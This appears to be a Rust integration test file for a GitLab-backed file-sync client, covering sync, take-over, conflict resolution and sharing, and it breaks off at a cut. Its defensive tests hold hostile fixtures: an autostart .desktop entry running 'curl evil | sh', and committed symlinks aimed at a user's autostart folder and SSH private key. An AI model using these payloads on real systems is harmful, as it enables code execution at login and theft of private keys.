//! The client against a stand-in GitLab with two people (alice, bob; carol
//! too, who is given nothing) and three machines, each a client home of its
//! own on this host: alice's laptop-1 and laptop-2, bob's desk. Everything
//! goes through the real binary, real git and the stand-in's REST API and git
//! over HTTP behind tokens.

use crate::common;

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use common::project::wait_healthy;
use common::{Machine, Run, Server, client_binary, contents, read, write};

const USERS: [(&str, &str); 4] = [
    ("alice", "glpat-alice-0001"),
    ("bob", "glpat-bob-0002"),
    ("carol", "glpat-carol-0003"),
    // GitLab allows a user name git refuses as a ref component.
    ("eve.lock", "glpat-eve-0004"),
];

impl Server {
    /// A stand-in GitLab with these people; removed when dropped.
    fn with_users() -> Server {
        Server::start("girofle-client-test", &USERS)
    }

    /// A machine of `person`'s, set up with the client.
    fn machine(&self, person: &str, name: &str) -> Machine {
        self.set_up(Machine::fresh(), person, name)
    }
}

impl Server {
    /// A REST call as `person`, through curl; the status and the JSON body.
    fn api(&self, person: &str, method: &str, path: &str, form: &str) -> (u16, serde_json::Value) {
        let token = USERS.iter().find(|(u, _)| *u == person).unwrap().1;
        let mut command = Command::new("curl");
        command.args(["-s", "-o", "-", "-w", "\n%{http_code}", "-X", method]);
        command.args(["-H", &format!("PRIVATE-TOKEN: {token}")]);
        if !form.is_empty() {
            command.args(["--data", form]);
        }
        let output = command
            .arg(format!("{}/api/v4{path}", self.url))
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&output.stdout).into_owned();
        let (body, status) = text.rsplit_once('\n').unwrap();
        (
            status.trim().parse().unwrap(),
            serde_json::from_str(body).unwrap_or(serde_json::Value::Null),
        )
    }
}

impl Machine {
    /// A machine whose `~` is `home` in a temp directory of its own.
    pub fn fresh() -> Machine {
        let root = tempfile::tempdir().unwrap();
        let home = root.path().join("home");
        Machine::at(root, home)
    }

    /// Runs the client in `dir` with `bin` first on the PATH (another git).
    fn run_with_git(&self, bin: &Path, dir: &Path, args: &[&str]) -> Run {
        let path = format!("{}:/usr/bin:/bin", bin.display());
        Run::from(
            self.command(dir)
                .env("PATH", path)
                .args(args)
                .output()
                .unwrap(),
        )
    }
}

/// The project's directory, where install-client.sh is.
fn project() -> &'static Path {
    // This crate stands two levels below it.
    Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/../.."))
}

/// The names in `dir` that start with `prefix`.
fn names_starting(dir: &Path, prefix: &str) -> Vec<PathBuf> {
    let mut names: Vec<PathBuf> = std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().starts_with(prefix))
        .map(|e| e.path())
        .collect();
    names.sort();
    names
}

/// No git word reaches the person.
fn plain(run: &Run) {
    common::plain(&format!("{}\n{}", run.stdout, run.stderr));
}

#[test]
fn seed_scenario_get_is_refused_while_another_machine_has_changes_never_sent() {
    let server = Server::with_users();
    let laptop1 = server.machine("alice", "laptop-1");
    let laptop2 = server.machine("alice", "laptop-2");

    let report = laptop1.folder("Report");
    write(&report, "plan.txt", "first plan\n");
    write(&report, "notes/monday.txt", "monday\n");
    let run = laptop1.run(&["new", "Report"]).expect_code(0);
    plain(&run);
    write(&report, "plan.txt", "second plan\n");
    let run = laptop1
        .run_in(&report, &["save", "Second plan"])
        .expect_code(0);
    plain(&run);
    let run = laptop1.run_in(&report, &["sync"]).expect_code(0);
    plain(&run);

    // A change saved but never sent; then laptop-1 is switched off.
    write(&report, "plan.txt", "third plan, never sent\n");
    laptop1.run_in(&report, &["save"]).expect_code(0);

    let listed = laptop2.run(&["get"]).expect_code(0);
    assert_eq!(listed.stdout.trim(), "alice/report");
    let refused = laptop2.run(&["get", "report"]).expect_code(1);
    plain(&refused);
    assert!(
        refused.stderr.contains("your changes on laptop-1 since ")
            && refused.stderr.contains("were never sent; sync there first"),
        "{}",
        refused.stderr
    );
    assert!(!laptop2.folder("Report").exists(), "nothing was brought");

    // Unsaved changes alone count too, once the client has run there.
    laptop1.run_in(&report, &["sync"]).expect_code(0);
    laptop2.run(&["get", "report"]).expect_code(0);
    let here = laptop2.folder("Report");
    assert_eq!(read(&here, "plan.txt"), "third plan, never sent\n");
    assert_eq!(read(&here, "notes/monday.txt"), "monday\n");
    assert_eq!(
        contents(&here),
        contents(&report),
        "the same folder on both"
    );
    write(&here, "notes/tuesday.txt", "tuesday\n");
    let status = laptop2.run_in(&here, &["status"]).expect_code(0);
    plain(&status);
    assert!(
        status.stdout.contains("new      notes/tuesday.txt"),
        "{}",
        status.stdout
    );
    let refused = laptop1
        .run(&["--folder", "Report", "status"])
        .expect_code(0);
    assert!(
        refused
            .stdout
            .contains("Not sent yet: your changes on laptop-2 since "),
        "{}",
        refused.stdout
    );
    laptop2.run_in(&here, &["sync"]).expect_code(0);
    let run = laptop1.run_in(&report, &["sync"]).expect_code(0);
    assert!(
        run.stderr.contains("Brought in 1 new version"),
        "{}",
        run.stderr
    );
    assert_eq!(read(&report, "notes/tuesday.txt"), "tuesday\n");

    // The token is in its own file only: not in the client's data, not in
    // the folder.
    let token = USERS[0].1.as_bytes();
    for dir in [laptop1.home.join(".local/share/girofle"), report.clone()] {
        for file in files_under(&dir) {
            let bytes = std::fs::read(&file).unwrap();
            assert!(
                !bytes.windows(token.len()).any(|w| w == token),
                "the token is in {}",
                file.display()
            );
        }
    }
}

fn files_under(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        let path = entry.path();
        if entry.file_type().unwrap().is_dir() {
            out.extend(files_under(&path));
        } else if entry.file_type().unwrap().is_file() {
            out.push(path);
        }
    }
    out
}

#[test]
fn resolve_after_a_take_over_leaves_exactly_the_differing_files_and_loses_nothing() {
    let server = Server::with_users();
    let laptop1 = server.machine("alice", "laptop-1");
    let laptop2 = server.machine("alice", "laptop-2");

    let report = laptop1.folder("Report");
    for name in ["a.txt", "b.txt", "c.txt", "same.txt"] {
        write(&report, name, &format!("{name} as first sent\n"));
    }
    laptop1.run(&["new", "Report"]).expect_code(0);

    // laptop-1 changes a and b, adds a file, and never sends.
    write(&report, "a.txt", "a.txt from laptop-1\n");
    write(&report, "b.txt", "b.txt from laptop-1\n");
    write(&report, "sub/only-mine.txt", "only on laptop-1\n");
    laptop1.run_in(&report, &["save"]).expect_code(0);
    let mine_before = contents(&report);

    let refused = laptop2
        .run(&["get", "report", "--take-over"])
        .expect_code(2);
    assert!(refused.stderr.contains("--yes"), "{}", refused.stderr);
    let run = laptop2
        .run(&["get", "report", "--take-over", "--yes"])
        .expect_code(0);
    plain(&run);
    let here = laptop2.folder("Report");
    write(&here, "a.txt", "a.txt from laptop-2\n");
    write(&here, "c.txt", "c.txt from laptop-2\n");
    write(&here, "server-new.txt", "new on laptop-2\n");
    laptop2.run_in(&here, &["sync"]).expect_code(0);
    let server_files = contents(&here);

    // laptop-1 comes back: its work is kept aside, never lost.
    let run = laptop1.run_in(&report, &["save"]).expect_code(1);
    plain(&run);
    assert!(
        run.stderr.contains("laptop-2 took this folder over"),
        "{}",
        run.stderr
    );
    let asides = names_starting(&laptop1.documents, "Report (copy ");
    assert_eq!(asides.len(), 1, "one dated copy: {asides:?}");
    assert_eq!(
        contents(&asides[0]),
        mine_before,
        "the copy is the folder as it was"
    );

    let listed = laptop1.run_in(&report, &["resolve"]).expect_code(0);
    assert_eq!(
        listed.stdout.lines().collect::<Vec<_>>(),
        vec!["a.txt", "b.txt", "c.txt"],
        "exactly the files that differ\n{}",
        listed.stderr
    );
    // Files the server lacked came back; the server's new file is there.
    assert_eq!(read(&report, "sub/only-mine.txt"), "only on laptop-1\n");
    assert_eq!(read(&report, "server-new.txt"), "new on laptop-2\n");
    assert_eq!(read(&report, "a.txt"), "a.txt from laptop-2\n");
    // Nothing can be sent while choices remain.
    laptop1.run_in(&report, &["sync"]).expect_code(2);

    laptop1
        .run_in(&report, &["resolve", "--keep", "mine", "a.txt"])
        .expect_code(0);
    laptop1
        .run_in(&report, &["resolve", "--keep", "both", "b.txt"])
        .expect_code(0);
    let done = laptop1
        .run_in(&report, &["resolve", "--keep", "server", "c.txt"])
        .expect_code(0);
    plain(&done);
    laptop1
        .run_in(&report, &["resolve", "--keep", "mine", "c.txt"])
        .expect_code(2);
    laptop1.run_in(&report, &["sync"]).expect_code(0);

    let run = laptop2.run_in(&here, &["sync"]).expect_code(0);
    plain(&run);
    let expected: Vec<(String, String)> = [
        ("a.txt", "a.txt from laptop-1\n"),
        ("b (from laptop-1).txt", "b.txt from laptop-1\n"),
        ("b.txt", "b.txt as first sent\n"),
        ("c.txt", "c.txt from laptop-2\n"),
        ("same.txt", "same.txt as first sent\n"),
        ("server-new.txt", "new on laptop-2\n"),
        ("sub/only-mine.txt", "only on laptop-1\n"),
    ]
    .iter()
    .map(|(a, b)| (a.to_string(), b.to_string()))
    .collect();
    assert_eq!(contents(&here), expected);
    assert_eq!(contents(&report), expected);
    // Nothing is lost: laptop-1's folder as it was is in the dated copy
    // (checked above), and laptop-2's versions are still on the server.
    laptop2
        .run_in(&here, &["discard", "--to", "2", "--yes"])
        .expect_code(0);
    assert_eq!(contents(&here), server_files);
}

#[test]
fn discard_remakes_the_folder_and_keeps_the_old_one_until_confirmed() {
    let server = Server::with_users();
    let laptop1 = server.machine("alice", "laptop-1");
    let report = laptop1.folder("Report");
    write(&report, "plan.txt", "version 1\n");
    laptop1.run(&["new", "Report"]).expect_code(0);
    write(&report, "plan.txt", "version 2\n");
    laptop1.run_in(&report, &["save"]).expect_code(0);
    laptop1.run_in(&report, &["sync"]).expect_code(0);

    write(&report, "plan.txt", "a mistake\n");
    write(&report, "stray.txt", "stray\n");
    let run = laptop1
        .run_in(&report, &["discard", "--yes"])
        .expect_code(0);
    plain(&run);
    assert_eq!(
        contents(&report),
        vec![("plan.txt".to_string(), "version 2\n".to_string())]
    );
    assert!(names_starting(&laptop1.documents, "Report (copy ").is_empty());

    // Without --yes and without a terminal, the old folder stays aside.
    write(&report, "plan.txt", "another mistake\n");
    let run = laptop1
        .run(&["--folder", "Report", "discard", "--to", "1"])
        .expect_code(0);
    plain(&run);
    assert_eq!(read(&report, "plan.txt"), "version 1\n");
    let asides = names_starting(&laptop1.documents, "Report (copy ");
    assert_eq!(asides.len(), 1);
    assert_eq!(read(&asides[0], "plan.txt"), "another mistake\n");
    let status = laptop1.run_in(&report, &["status"]).expect_code(0);
    assert!(status.stdout.contains("version 3"), "{}", status.stdout);
    assert!(
        status.stdout.contains("     3  ")
            && status.stdout.contains("Back to version 1, on laptop-1"),
        "{}",
        status.stdout
    );
    assert!(
        status.stdout.contains("No unsaved changes."),
        "{}",
        status.stdout
    );
    assert!(
        status.stdout.contains("1 saved version not sent"),
        "{}",
        status.stdout
    );
    laptop1
        .run_in(&report, &["discard", "--to", "9"])
        .expect_code(2);
}

#[test]
fn share_lets_another_person_get_the_folder_under_the_same_check() {
    let server = Server::with_users();
    let laptop1 = server.machine("alice", "laptop-1");
    let desk = server.machine("bob", "desk");
    let carol = server.machine("carol", "tablet");

    let plan = laptop1.folder("Plan");
    write(&plan, "plan.txt", "alice's plan\n");
    laptop1.run(&["new", "Plan"]).expect_code(0);

    // Not a member: the server refuses, and bob's list does not show it.
    let refused = desk.run(&["get", "alice/plan"]).expect_code(1);
    plain(&refused);
    assert!(
        refused.stderr.contains("the server refused"),
        "{}",
        refused.stderr
    );
    assert!(desk.run(&["get"]).expect_code(0).stdout.trim().is_empty());
    desk.run(&["get", "plan"]).expect_code(2);
    assert!(!desk.folder("Plan").exists());

    laptop1.run(&["share", "Plan", "nobody"]).expect_code(2);
    carol.run(&["share", "alice/plan", "carol"]).expect_code(1);
    let run = laptop1.run(&["share", "Plan", "bob"]).expect_code(0);
    plain(&run);

    // alice changes it without sending: bob is refused, naming her machine.
    write(&plan, "plan.txt", "alice's second plan\n");
    laptop1.run_in(&plan, &["status"]).expect_code(0);
    let refused = desk.run(&["get", "alice/plan"]).expect_code(1);
    assert!(
        refused
            .stderr
            .contains("alice's changes on laptop-1 since ")
            && refused.stderr.contains("were never sent"),
        "{}",
        refused.stderr
    );
    laptop1.run_in(&plan, &["sync"]).expect_code(0);
    assert_eq!(
        desk.run(&["get"]).expect_code(0).stdout.trim(),
        "alice/plan"
    );
    desk.run(&["get", "plan"]).expect_code(0);
    assert_eq!(
        read(&desk.folder("Plan"), "plan.txt"),
        "alice's second plan\n"
    );
    // bob may send versions in his turn.
    write(&desk.folder("Plan"), "plan.txt", "bob's plan\n");
    desk.run_in(&desk.folder("Plan"), &["sync"]).expect_code(0);
    laptop1.run_in(&plan, &["sync"]).expect_code(0);
    assert_eq!(read(&plan, "plan.txt"), "bob's plan\n");

    // A token the server no longer takes is said so, in plain words.
    let token_file = desk.home.join(".config/girofle/token");
    std::fs::write(&token_file, "glpat-revoked\n").unwrap();
    write(&desk.folder("Plan"), "plan.txt", "bob's second plan\n");
    let run = desk.run_in(&desk.folder("Plan"), &["sync"]).expect_code(1);
    plain(&run);
    assert!(
        run.stderr.contains("refused your access token"),
        "{}",
        run.stderr
    );
    assert_eq!(
        read(&desk.folder("Plan"), "plan.txt"),
        "bob's second plan\n"
    );
}

#[test]
fn one_folder_per_project_on_a_machine_and_only_the_persons_folders() {
    let server = Server::with_users();
    let laptop1 = server.machine("alice", "laptop-1");
    let laptop2 = server.machine("alice", "laptop-2");
    let carol = server.machine("carol", "tablet");
    let report = laptop1.folder("Report");
    write(&report, "a.txt", "a\n");
    laptop1.run(&["new", "Report"]).expect_code(0);

    let run = laptop1
        .run(&["get", "report", "Report-again"])
        .expect_code(2);
    plain(&run);
    assert!(
        run.stderr.contains("already on this machine"),
        "{}",
        run.stderr
    );
    assert!(!laptop1.folder("Report-again").exists());
    laptop1.run(&["new", "Report"]).expect_code(2);
    std::fs::create_dir_all(report.join("inner")).unwrap();
    laptop1.run(&["new", "Report/inner"]).expect_code(2);
    laptop1.run(&["new", "."]).expect_code(2);

    // The same name on another machine is the same folder: get it instead.
    let other = laptop2.folder("Report");
    write(&other, "b.txt", "b\n");
    let run = laptop2.run(&["new", "Report"]).expect_code(2);
    assert!(run.stderr.contains("get report"), "{}", run.stderr);

    let run = laptop1.run_in(&laptop1.home, &["new", "."]).expect_code(2);
    assert!(run.stderr.contains("too wide"), "{}", run.stderr);

    // Outside a saved folder, the actions say so.
    laptop1.run(&["save"]).expect_code(2);

    // A saved folder removed by hand is remade by `get`, from the versions
    // kept on this machine (the one saved and never sent included).
    write(&report, "a.txt", "a, second\n");
    laptop1.run_in(&report, &["save"]).expect_code(0);
    std::fs::remove_dir_all(&report).unwrap();
    laptop1.run(&["status"]).expect_code(2);
    let run = laptop1.run(&["get", "report"]).expect_code(0);
    plain(&run);
    assert_eq!(read(&report, "a.txt"), "a, second\n");
    let status = laptop1.run_in(&report, &["status"]).expect_code(0);
    assert!(
        status.stdout.contains("1 saved version not sent"),
        "{}",
        status.stdout
    );
    laptop1.run_in(&report, &["sync"]).expect_code(0);

    // The client's data lost (a reinstalled machine): `get` again; the
    // state this machine had left on the server is replaced, then kept up.
    std::fs::remove_dir_all(laptop1.home.join(".local/share/girofle")).unwrap();
    std::fs::remove_dir_all(&report).unwrap();
    laptop1.run(&["get", "report", "Report"]).expect_code(0);
    write(&report, "a.txt", "a, third\n");
    laptop1.run_in(&report, &["status"]).expect_code(0);
    let refused = laptop2.run(&["get", "report", "elsewhere"]).expect_code(1);
    assert!(
        refused.stderr.contains("your changes on laptop-1 since "),
        "{}",
        refused.stderr
    );

    // carol has no such folder.
    carol.run(&["get", "report"]).expect_code(2);
    carol.run(&["get", "alice/report"]).expect_code(1);
}

#[test]
fn saving_works_offline_and_the_server_learns_of_it_when_the_machine_is_back() {
    let server = Server::with_users();
    let laptop1 = server.machine("alice", "laptop-1");
    let laptop2 = server.machine("alice", "laptop-2");
    let report = laptop1.folder("Report");
    write(&report, "plan.txt", "first\n");
    laptop1.run(&["new", "Report"]).expect_code(0);

    common::project::docker(&["stop", "--time", "5", &server.container]);
    write(&report, "plan.txt", "written on the train\n");
    let run = laptop1.run_in(&report, &["save"]).expect_code(0);
    plain(&run);
    assert!(run.stderr.contains("cannot be reached"), "{}", run.stderr);
    let run = laptop1.run_in(&report, &["sync"]).expect_code(1);
    assert!(
        run.stderr.contains("your versions are safe here"),
        "{}",
        run.stderr
    );
    let status = laptop1.run_in(&report, &["status"]).expect_code(0);
    assert!(
        status.stdout.contains("The server cannot be reached."),
        "{}",
        status.stdout
    );
    common::project::docker(&["start", &server.container]);
    wait_healthy(&server.container);

    // The server learns of the change made offline once laptop-1 runs the
    // client online again (any action; here `status`); from then on another
    // machine is stopped.
    laptop1.run_in(&report, &["status"]).expect_code(0);
    let refused = laptop2.run(&["get", "report"]).expect_code(1);
    assert!(
        refused.stderr.contains("your changes on laptop-1 since "),
        "{}",
        refused.stderr
    );
    laptop1.run_in(&report, &["sync"]).expect_code(0);
    laptop2.run(&["get", "report"]).expect_code(0);
    assert_eq!(
        read(&laptop2.folder("Report"), "plan.txt"),
        "written on the train\n"
    );
}

#[test]
fn install_client_puts_the_binary_in_place_and_sets_the_machine_up() {
    let server = Server::with_users();
    let root = tempfile::tempdir().unwrap();
    // The script as shipped, with a prebuilt binary beside it in dist/.
    let kit = root.path().join("kit");
    std::fs::create_dir_all(kit.join("dist")).unwrap();
    let script = kit.join("install-client.sh");
    std::fs::copy(project().join("install-client.sh"), &script).unwrap();
    std::fs::copy(client_binary(), kit.join("dist/girofle-client")).unwrap();
    let home = root.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    let install = |machine: &str, stdin: &str| {
        let mut child = Command::new("sh")
            .arg(&script)
            .args([
                "--server",
                &server.url,
                "--token-stdin",
                "--machine",
                machine,
            ])
            .env("HOME", &home)
            .env("PATH", "/usr/bin:/bin")
            .env_remove("XDG_CONFIG_HOME")
            .env_remove("GIROFLE_CLIENT_CONFIG")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(stdin.as_bytes())
            .unwrap();
        Run::from(child.wait_with_output().unwrap())
    };
    // A name with a space is not a machine name: nothing is set up.
    let run = install("home pc", "glpat-alice-0001\n").expect_code(2);
    assert!(
        run.stderr.contains("cannot be a machine name"),
        "{}",
        run.stderr
    );
    let installed = home.join(".local/bin/girofle-client");
    assert!(installed.is_file());
    assert!(run.stderr.contains("not in your PATH"), "{}", run.stderr);
    assert!(!home.join(".config/girofle/client.toml").exists());

    let run = install("home-pc", "glpat-alice-0001\n").expect_code(0);
    assert!(run.stderr.contains("already installed"), "{}", run.stderr);
    // Which git it found, said by the script and by setup.
    assert!(run.stderr.contains("Found git 2."), "{}", run.stderr);
    assert!(run.stderr.contains(", with git 2."), "{}", run.stderr);
    let config = std::fs::read_to_string(home.join(".config/girofle/client.toml")).unwrap();
    assert!(config.contains("machine = \"home-pc\""), "{config}");
    assert!(config.contains("person = \"alice\""), "{config}");
    use std::os::unix::fs::PermissionsExt;
    let token = home.join(".config/girofle/token");
    assert_eq!(
        std::fs::read_to_string(&token).unwrap(),
        "glpat-alice-0001\n"
    );
    assert_eq!(
        std::fs::metadata(&token).unwrap().permissions().mode() & 0o777,
        0o600
    );
    let help = Run::from(Command::new(&installed).arg("--help").output().unwrap()).expect_code(0);
    for action in [
        "setup", "new", "save", "sync", "status", "get", "resolve", "discard", "share", "ui",
    ] {
        assert!(
            help.stdout.contains(&format!("  {action} ")),
            "{action}: {}",
            help.stdout
        );
    }
    plain(&help);
    let version =
        Run::from(Command::new(&installed).arg("--version").output().unwrap()).expect_code(0);
    assert!(
        version.stdout.starts_with("girofle-client "),
        "{}",
        version.stdout
    );

    // A wrong token is refused by the server at setup.
    let mut child = Command::new(&installed)
        .args(["setup", "--server", &server.url, "--token-stdin"])
        .env("HOME", &home)
        .stdin(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(b"glpat-wrong\n")
        .unwrap();
    let run = Run::from(child.wait_with_output().unwrap()).expect_code(1);
    assert!(
        run.stderr.contains("refused the access token"),
        "{}",
        run.stderr
    );
}

// ---------------------------------------------------------------------------
// Hostile inputs, part 2: nothing under a saved folder is read or written
// through a link. A collaborator commits `scripts` as a link to the owner's
// `~/.config/autostart` in place of the folder; whatever the owner then does
// (resolve, keep mine, keep both, sync or discard after a take-over, the
// page's view of a file), nothing is written, replaced or read there.
// ---------------------------------------------------------------------------

/// alice's `Tools` (`scripts/run.sh` and `readme.txt`), shared with bob,
/// and her `~/.config/autostart`, where a file runs at her next login.
struct Tools {
    server: Server,
    laptop1: Machine,
    desk: Machine,
    tools: PathBuf,
    autostart: PathBuf,
}

fn tools_shared_with_bob() -> Tools {
    let server = Server::with_users();
    let laptop1 = server.machine("alice", "laptop-1");
    let desk = server.machine("bob", "desk");
    let tools = laptop1.folder("Tools");
    write(&tools, "scripts/run.sh", "echo first\n");
    write(&tools, "readme.txt", "tools\n");
    laptop1.run(&["new", "Tools"]).expect_code(0);
    laptop1.run(&["share", "Tools", "bob"]).expect_code(0);
    let autostart = laptop1.home.join(".config/autostart");
    std::fs::create_dir_all(&autostart).unwrap();
    Tools {
        server,
        laptop1,
        desk,
        tools,
        autostart,
    }
}

/// What `dir` holds: names and contents (links named, never followed).
fn listing(dir: &Path) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .map(|e| {
            let text = std::fs::read_to_string(e.path()).unwrap_or_else(|_| "(not a file)".into());
            (e.file_name().to_string_lossy().into_owned(), text)
        })
        .collect();
    out.sort();
    out
}

/// bob puts, in his copy `theirs`, a link to `target` in place of the folder
/// `scripts`, and sends it.
fn replace_scripts_with_a_link(desk: &Machine, theirs: &Path, target: &Path) {
    std::fs::remove_dir_all(theirs.join("scripts")).unwrap();
    std::os::unix::fs::symlink(target, theirs.join("scripts")).unwrap();
    desk.run_in(theirs, &["sync"]).expect_code(0);
}

/// The owner is told, in plain words, that the link was not gone through.
fn told_of_the_link(run: &Run, autostart: &Path) {
    plain(run);
    let said = format!("{}\n{}", run.stdout, run.stderr);
    assert!(
        said.contains(&format!(
            "in the server's version, scripts is a link to {} instead of a folder, \
             and nothing is ever written through a link",
            autostart.display()
        )),
        "{said}"
    );
}

/// bob first sends an innocent-looking `scripts/evil.desktop`, which alice
/// brings in, then turns `scripts` into a link to alice's autostart folder;
/// alice, with a change of hers never sent, resolves.
fn evil_desktop_then_a_link(t: &Tools) -> Run {
    t.desk.run(&["get", "alice/tools"]).expect_code(0);
    let theirs = t.desk.folder("Tools");
    write(
        &theirs,
        "scripts/evil.desktop",
        "[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n",
    );
    t.desk.run_in(&theirs, &["sync"]).expect_code(0);
    t.laptop1.run_in(&t.tools, &["sync"]).expect_code(0);
    assert!(t.tools.join("scripts/evil.desktop").is_file());

    replace_scripts_with_a_link(&t.desk, &theirs, &t.autostart);
    write(&t.tools, "scripts/run.sh", "echo mine\n");
    t.laptop1.run_in(&t.tools, &["save"]).expect_code(0);
    let refused = t.laptop1.run_in(&t.tools, &["sync"]).expect_code(1);
    assert!(
        refused.stderr.contains("girofle-client resolve"),
        "{}",
        refused.stderr
    );
    t.laptop1.run_in(&t.tools, &["resolve"])
}

#[test]
fn resolve_never_puts_a_file_back_through_a_link_a_collaborator_committed() {
    let t = tools_shared_with_bob();
    let run = evil_desktop_then_a_link(&t);
    assert_eq!(
        listing(&t.autostart),
        vec![],
        "nothing written outside the folder"
    );
    let run = run.expect_code(0);
    told_of_the_link(&run, &t.autostart);
    assert!(
        run.stderr.contains("2 files of yours were not put back")
            && run.stderr.contains("scripts/evil.desktop, scripts/run.sh"),
        "{}",
        run.stderr
    );
    assert!(
        std::fs::symlink_metadata(t.tools.join("scripts"))
            .unwrap()
            .file_type()
            .is_symlink(),
        "the server's link stays a link"
    );
    let run = t.laptop1.run_in(&t.tools, &["status"]).expect_code(0);
    plain(&run);
    // Nothing of alice's is lost: it is in the copy kept aside.
    let asides = names_starting(&t.laptop1.documents, "Tools (copy ");
    assert_eq!(asides.len(), 1);
    assert_eq!(read(&asides[0], "scripts/run.sh"), "echo mine\n");
    assert_eq!(listing(&t.autostart), vec![]);
}

/// alice's autostart folder already holds `run.sh` of her own; bob's link
/// makes it look like the server's `scripts/run.sh`, which differs from
/// alice's: she is offered (or not) to keep hers, or both.
fn keep_through_a_link(keep: &str) {
    let t = tools_shared_with_bob();
    write(&t.autostart, "run.sh", "alice's own login script\n");
    let before = listing(&t.autostart);
    t.desk.run(&["get", "alice/tools"]).expect_code(0);
    replace_scripts_with_a_link(&t.desk, &t.desk.folder("Tools"), &t.autostart);
    write(&t.tools, "scripts/run.sh", "echo mine\n");
    t.laptop1.run_in(&t.tools, &["save"]).expect_code(0);
    let listed = t.laptop1.run_in(&t.tools, &["resolve"]);
    assert_eq!(
        listing(&t.autostart),
        before,
        "nothing written outside the folder"
    );
    let kept = t
        .laptop1
        .run_in(&t.tools, &["resolve", "--keep", keep, "scripts/run.sh"]);
    assert_eq!(
        listing(&t.autostart),
        before,
        "nothing written or replaced outside the folder"
    );
    told_of_the_link(&listed.expect_code(0), &t.autostart);
    let kept = kept.expect_code(2);
    plain(&kept);
    assert!(
        kept.stderr.contains("no file is waiting for a choice"),
        "{}",
        kept.stderr
    );
}

#[test]
fn keep_mine_never_replaces_a_file_through_a_link() {
    keep_through_a_link("mine");
}

#[test]
fn keep_both_never_writes_beside_a_file_through_a_link() {
    keep_through_a_link("both");
}

/// alice changes `scripts/run.sh` and adds `scripts/todo.txt` without
/// sending; bob takes the folder over on his desk and turns `scripts` into
/// a link to alice's autostart folder; alice then runs `action`, which acts
/// on the take-over (her work kept aside, the server's version brought in).
fn after_a_take_over(action: &[&str]) {
    let t = tools_shared_with_bob();
    write(&t.tools, "scripts/run.sh", "echo mine\n");
    write(&t.tools, "scripts/todo.txt", "finish the script\n");
    t.laptop1.run_in(&t.tools, &["status"]).expect_code(0);
    t.desk
        .run(&["get", "alice/tools", "--take-over", "--yes"])
        .expect_code(0);
    replace_scripts_with_a_link(&t.desk, &t.desk.folder("Tools"), &t.autostart);

    let run = t.laptop1.run_in(&t.tools, action);
    assert_eq!(
        listing(&t.autostart),
        vec![],
        "nothing written outside the folder"
    );
    let run = run.expect_code(1);
    assert!(
        run.stderr.contains("bob/desk took this folder over")
            || run.stderr.contains("desk took this folder over"),
        "{}",
        run.stderr
    );
    told_of_the_link(&run, &t.autostart);
    assert!(
        run.stderr.contains("scripts/run.sh, scripts/todo.txt"),
        "{}",
        run.stderr
    );
    let asides = names_starting(&t.laptop1.documents, "Tools (copy ");
    assert_eq!(asides.len(), 1);
    assert_eq!(read(&asides[0], "scripts/todo.txt"), "finish the script\n");
    drop(t.server);
}

#[test]
fn sync_after_a_take_over_never_writes_through_a_link() {
    after_a_take_over(&["sync"]);
}

#[test]
fn discard_after_a_take_over_never_writes_through_a_link() {
    after_a_take_over(&["discard", "--yes"]);
}

/// Percent-encodes a query value.
fn encoded(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// A process stopped when dropped, even when the test fails.
struct Stopped(std::process::Child);

impl Drop for Stopped {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn the_page_never_shows_a_file_through_a_link() {
    let t = tools_shared_with_bob();
    let secret = t.laptop1.home.join(".ssh/id_ed25519");
    write(secret.parent().unwrap(), "id_ed25519", "PRIVATE KEY\n");
    // bob's version of readme.txt is a link to alice's key; alice changed
    // readme.txt too, so it waits for her choice, and the page shows both.
    t.desk.run(&["get", "alice/tools"]).expect_code(0);
    let theirs = t.desk.folder("Tools");
    std::fs::remove_file(theirs.join("readme.txt")).unwrap();
    std::os::unix::fs::symlink(&secret, theirs.join("readme.txt")).unwrap();
    t.desk.run_in(&theirs, &["sync"]).expect_code(0);
    write(&t.tools, "readme.txt", "alice's readme\n");
    t.laptop1.run_in(&t.tools, &["save"]).expect_code(0);
    let listed = t.laptop1.run_in(&t.tools, &["resolve"]).expect_code(0);
    assert_eq!(listed.stdout.trim(), "readme.txt");

    let mut page = Stopped(
        t.laptop1
            .command(&t.laptop1.documents)
            .args(["ui", "--no-browser", "--check-every", "3600"])
            .stdout(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(page.0.stdout.take().unwrap()),
        &mut line,
    )
    .unwrap();
    // The page's key comes after `#` and goes in the header its script sends.
    let (base, key) = line.trim().split_once("/#").expect("the page's address");
    let address = |side: &str| {
        format!(
            "{base}/file?folder={}&file=readme.txt&side={side}",
            encoded(&t.tools.canonicalize().unwrap().to_string_lossy())
        )
    };
    let get = |url: &str| {
        let output = Command::new("curl")
            .args([
                "--silent",
                "--show-error",
                "--write-out",
                "\n%{http_code}",
                "-H",
                &format!("X-Girofle-Key: {key}"),
                url,
            ])
            .output()
            .unwrap();
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    let mine = get(&address("mine"));
    let server = get(&address("server"));
    drop(page);
    assert!(mine.starts_with("alice's readme\n"), "{mine}");
    assert!(
        !server.contains("PRIVATE KEY"),
        "the key was shown: {server}"
    );
    assert!(
        server.contains("is a link") && server.ends_with("404"),
        "{server}"
    );
}

#[test]
fn a_version_holding_names_git_refuses_is_reported_not_written() {
    let t = tools_shared_with_bob();
